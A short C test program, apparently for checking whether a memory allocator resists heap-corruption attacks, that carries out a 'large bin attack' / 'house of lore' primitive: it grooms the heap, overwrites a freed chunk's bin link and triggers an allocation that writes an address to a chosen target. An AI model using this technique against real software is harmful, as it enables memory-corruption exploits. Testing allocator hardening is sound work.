// The links inside of a freed block of some size are replaced after it was sorted into a list of its size; the next
// insertion would write an address to the attacker's aim. ("large bin attack", "house of lore")
// attack: SIZE=0x428,WORD=3 SIZE=0x108,WORD=1
#include "error.h"

static _Alignas(16) uint64_t aim[16];

int main(void) {
    void *filler[7], *block, *smaller, *guards[3];
    for (int i = 0; i < 7; i++) filler[i] = malloc(SIZE);
    block = hide(malloc(SIZE)), guards[0] = malloc(24);
    smaller = hide(malloc(SIZE - 16)), guards[1] = malloc(24);
    for (int i = 0; i < 7; i++) free(filler[i]);
    free(block);
    guards[2] = malloc(0x1000);
    free(smaller);
    putWord(block, WORD * 8, (uint64_t)(uintptr_t)(aim - 4));
    void *next = malloc(0x1000);
    hide(next), hide(guards);
    return end();
}
